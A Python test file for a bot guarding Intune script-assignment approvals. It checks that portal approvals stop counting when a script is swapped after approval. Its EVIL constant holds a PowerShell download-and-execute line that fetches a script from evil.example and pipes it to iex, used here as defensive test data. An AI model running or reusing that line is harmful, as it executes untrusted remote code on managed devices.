"""A portal approval counts only for the content that its approver saw there. It does not survive a change."""

import pytest

from approvals.audit import Kind
from approvals.disagreement import Disagreement
from approvals.request import Decision, Request, Source
from cards.disagreements import sentence_of
from simulator.graph.knobs import Knobs
from tests.office import Office, day_with, sign_in_link, text_of, verbs_of

BOARD = "Change Advisory Board"
SCRIPT = "Clear-TempFolders"
EVIL = "Invoke-WebRequest https://evil.example/x.ps1 | iex\n"
GOOD = "Get-ChildItem $env:TEMP | Remove-Item -Recurse\n"
ORDER = f"/script {SCRIPT} to All-Windows-Laptops"

AGAIN = day_with(asking=True, knobs=Knobs(after_cancel="needsApproval"))


async def newest(day: Office) -> Request:
    """Return the newest request as it is stored."""
    request = await day.bot.store.requests.load(await day.request_id())
    assert request is not None
    return request


async def minute_later(day: Office) -> None:
    """Let a minute pass, and poll."""
    await day.pass_time(minutes=1)
    await day.poll()


def assign(day: Office) -> str:
    """File the assignment of the script in the portal as Rita. Return its Intune id."""
    return day.tenant.portal.assign_script("rita", SCRIPT, "All-Windows-Laptops", "Disk space")


async def test_the_script_is_replaced_after_a_portal_approval(day: Office) -> None:
    """If the script changes after Cora's portal approval, that approval no longer counts, and she is told."""
    await day.install_for("cora")
    filed = assign(day)
    await day.poll()
    card = day.card(BOARD)
    day.tenant.portal.approve("cora", filed)
    await minute_later(day)
    assert "1 of 2 approvals" in text_of(card.card)

    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await minute_later(day)
    await minute_later(day)
    assert "0 of 2 approvals" in text_of(card.card)
    assert "The approval of Cora Costa in Intune does not count" in text_of(card.card)
    [told] = day.told("cora")[-1:]
    assert "Your approval in Intune does not count here: what it is about was changed after it was given" in told
    assert "press Approve on the card" in told
    of_v2 = (await newest(day)).digest
    kinds = [entry.kind for entry in await day.audit() if entry.digest == of_v2]
    assert kinds == [Kind.VOTES_VOID, Kind.NOT_COUNTED]

    await day.approve("alex", card)
    assert (await newest(day)).decision is Decision.OPEN
    await day.approve("cora", card)
    after = await newest(day)
    assert after.decision is Decision.APPROVED
    assert {vote.source for vote in after.votes} == {Source.CARD}


async def test_approved_and_replaced_between_two_looks(day: Office) -> None:
    """If approval and change are seen in the same poll, the approval counts for nothing and raises an alarm: nobody
    knows what Cora saw."""
    filed = assign(day)
    await day.poll()
    day.tenant.portal.approve("cora", filed)
    await day.pass_time(seconds=10)
    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await minute_later(day)
    assert (await newest(day)).votes == ()
    assert "not reached" in day.alarms()[-1]


@pytest.mark.parametrize("replaced", [True, False])
async def test_approved_and_replaced_before_the_first_look(day: Office, replaced: bool) -> None:
    """On the first look, an approval that is older than the script does not count; otherwise it is Cora's vote."""
    await day.poll()
    filed = assign(day)
    await day.pass_time(seconds=10)
    day.tenant.portal.approve("cora", filed)
    await day.pass_time(seconds=10)
    if replaced:
        day.tenant.portal.edit_script(SCRIPT, EVIL)
    await minute_later(day)
    assert bool((await newest(day)).votes) is not replaced
    assert len(await day.audit(Kind.NOT_COUNTED)) == replaced


async def test_swapped_for_the_approval_and_back(day: Office) -> None:
    """If the script is swapped for the approval and then swapped back, the approval does not count, because the script
    is younger than it."""
    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await day.pass_time(hours=1)
    filed = assign(day)
    await day.poll()
    day.tenant.portal.edit_script(SCRIPT, GOOD)
    await day.pass_time(seconds=5)
    day.tenant.portal.approve("cora", filed)
    await day.pass_time(seconds=5)
    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await minute_later(day)
    assert (await newest(day)).votes == ()


@day_with(knobs=Knobs(after_cancel="needsApproval"))
async def test_withdrawn_there_and_approved_anew(day: Office) -> None:
    """If the approval is cancelled in the portal and given again for the current content, it counts as a vote."""
    filed = assign(day)
    await day.poll()
    day.tenant.portal.approve("cora", filed)
    await minute_later(day)
    day.tenant.portal.edit_script(SCRIPT, GOOD)
    await minute_later(day)
    day.tenant.portal.cancel_approval("both", filed)
    await minute_later(day)
    day.tenant.portal.approve("cora", filed)
    await minute_later(day)
    after = await newest(day)
    assert [(vote.voter.name, vote.digest) for vote in after.votes] == [("Cora Costa", after.digest)]


# --- orders that the bot filed ------------------------------------------------------------------------------------


async def held(day: Office) -> str:
    """Request an assignment, approve it as two people, and have it filed without a sign-in. Return its Intune id."""
    await day.pass_time(minutes=1)
    await day.ask("rita", ORDER, "Disk space runs out")
    await day.approve("alex", day.card(BOARD))
    await day.approve("cora", day.card(BOARD))
    await day.pass_time(seconds=15)
    [filed] = day.tenant.graph.requests()
    assert filed.status == "needsApproval"
    return filed.id


async def approved_for_other_content(day: Office) -> str:
    """Let somebody approve in the portal while another text is there, and then put the old text back. Return the Intune
    id."""
    filed = await held(day)
    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await day.pass_time(seconds=5)
    day.tenant.portal.approve("both", filed)
    await day.pass_time(seconds=5)
    day.tenant.portal.edit_script(SCRIPT, GOOD)
    await minute_later(day)
    assert day.tenant.graph.request(filed).status == "approved"
    return filed


def assignments(day: Office) -> int:
    """Return how many groups the script is assigned to."""
    [script] = [one for one in day.tenant.world.scripts.values() if one["displayName"] == SCRIPT]
    return len(script["assignments"])


@AGAIN
async def test_an_order_does_not_run_on_an_approval_of_other_content(day: Office) -> None:
    """An order does not run on an approval of other content: it waits and alarms. Finish cancels that approval, gives a
    new one in the finishing person's name, and then the order runs."""
    filed = await approved_for_other_content(day)
    card = day.card(BOARD)
    await day.pass_time(hours=1)
    await day.poll()
    assert assignments(day) == 0
    assert f"Alarm: {Disagreement.APPROVED_FOR_OTHER_CONTENT}" in text_of(card.card)
    assert sentence_of(Disagreement.APPROVED_FOR_OTHER_CONTENT) in text_of(card.card)
    assert len([one for one in day.alarms() if "not for what was decided on" in one]) == 1
    assert "finish" in verbs_of(card.card)

    answer = await day.click("alex", "finish", card)
    assert "Intune has been told" in await day.sign_in("alex", sign_in_link(answer))
    await day.pass_time(minutes=1)
    decisions = [(one.verdict, one.by.upn.split("@")[0]) for one in day.tenant.graph.decisions(filed)]
    assert decisions == [("approve", "both"), ("cancelApproval", "alex"), ("approve", "alex")]
    assert day.tenant.graph.request(filed).status == "completed"
    assert assignments(day) == 1
    [entry] = await day.audit(Kind.APPROVAL_CANCELLED)
    assert (entry.name, entry.identified) == ("Alex Adler", "signed-token")


@day_with(asking=True, knobs=Knobs(after_cancel="cancelled"))
async def test_where_intune_ends_what_is_withdrawn(day: Office) -> None:
    """If Intune ends a request whose approval is cancelled, the order is not carried out and cannot be finished."""
    filed = await approved_for_other_content(day)
    answer = await day.click("alex", "finish", day.card(BOARD))
    await day.sign_in("alex", sign_in_link(answer))
    await minute_later(day)
    assert day.tenant.graph.request(filed).status == "cancelled"
    assert assignments(day) == 0
    assert "finish" not in verbs_of(day.card(BOARD).card)


@AGAIN
async def test_an_order_whose_content_is_another_one_now(day: Office) -> None:
    """An order whose content has changed waits and alarms, whatever was approved, and nobody can finish it."""
    filed = await held(day)
    await day.pass_time(seconds=5)
    day.tenant.portal.approve("both", filed)
    day.tenant.portal.edit_script(SCRIPT, EVIL)
    await minute_later(day)
    await day.pass_time(hours=1)
    card = day.card(BOARD)
    assert assignments(day) == 0
    assert sentence_of(Disagreement.CHANGED_AFTER_DECISION) in text_of(card.card)
    assert "finish" not in verbs_of(card.card)
    assert len([one for one in day.alarms() if "no longer what was decided on" in one]) == 1

    await day.pass_time(seconds=5)
    day.tenant.portal.edit_script(SCRIPT, GOOD)
    await minute_later(day)
    await day.pass_time(hours=1)
    assert assignments(day) == 0
    assert sentence_of(Disagreement.APPROVED_FOR_OTHER_CONTENT) in text_of(card.card)
    assert "finish" in verbs_of(card.card)


@day_with(asking=True, decisions="track", knobs=Knobs(after_cancel="needsApproval"))
async def test_where_decisions_are_only_tracked(day: Office) -> None:
    """If decisions are only tracked, people cancel and approve again in Intune, and then the order runs."""
    filed = await approved_for_other_content(day)
    await day.pass_time(hours=1)
    assert assignments(day) == 0
    day.tenant.portal.cancel_approval("alex", filed)
    await minute_later(day)
    day.tenant.portal.approve("both", filed)
    await minute_later(day)
    assert assignments(day) == 1


@AGAIN
async def test_an_order_that_nobody_touched(day: Office) -> None:
    """If nothing was changed, a portal approval of our order lets it run at once."""
    filed = await held(day)
    await day.pass_time(seconds=5)
    day.tenant.portal.approve("both", filed)
    await minute_later(day)
    assert assignments(day) == 1
    assert day.alarms() == []
